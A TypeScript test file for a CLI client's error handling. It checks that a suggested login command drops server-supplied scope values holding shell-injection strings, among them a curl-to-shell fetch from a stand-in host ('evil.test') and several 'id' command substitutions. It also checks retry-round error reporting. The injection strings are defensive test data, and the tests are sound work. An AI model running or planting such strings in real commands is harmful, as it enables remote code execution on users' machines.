import { EvergrantClientError } from '@evergrant/client'
import { expect, test } from 'vitest'
import { describeFailure } from '../src/output/failure.ts'
import { runRounds } from '../src/calls/rounds.ts'

function missingScope(requiredScope: string): EvergrantClientError {
  return new EvergrantClientError('SIGN_IN_REQUIRED', 'more scope', {
    signInReason: 'wider-scope-needed',
    requiredScope,
  })
}

test(
  'failure: the suggested command never contains unsafe characters from a server',
  { tags: ['C-22'] },
  () => {
    const url = 'https://mcp.test/mcp'
    expect(describeFailure(missingScope('mcp:read files.write'), url).command).toBe(
      `evergrant login ${url} --scope "mcp:read files.write"`,
    )
    for (const scope of ['$(curl${IFS}evil.test|sh)', '`id`', "a';id;'", '%PATH%', 'a!b']) {
      expect(describeFailure(missingScope(scope), url).command).toBe(`evergrant login ${url}`)
    }
    expect(describeFailure(missingScope('mcp:read'), `${url}?a=1&b=$(id)`).command).toBeUndefined()
  },
)

test('rounds: reports the error that ended the calls, not an earlier one', async () => {
  const transient = new Error('cannot be reached')
  const final = new Error('sign in')
  const answers = [transient, final]
  const totals = await runRounds(
    { parallel: 1, repeat: 5, everyMilliseconds: 0 },
    () => Promise.reject(answers.shift()),
    { signal: undefined, isFinal: (error) => error === final, onRound: () => undefined },
  )
  expect(totals).toMatchObject({ rounds: 2, failed: 2, error: final })
})
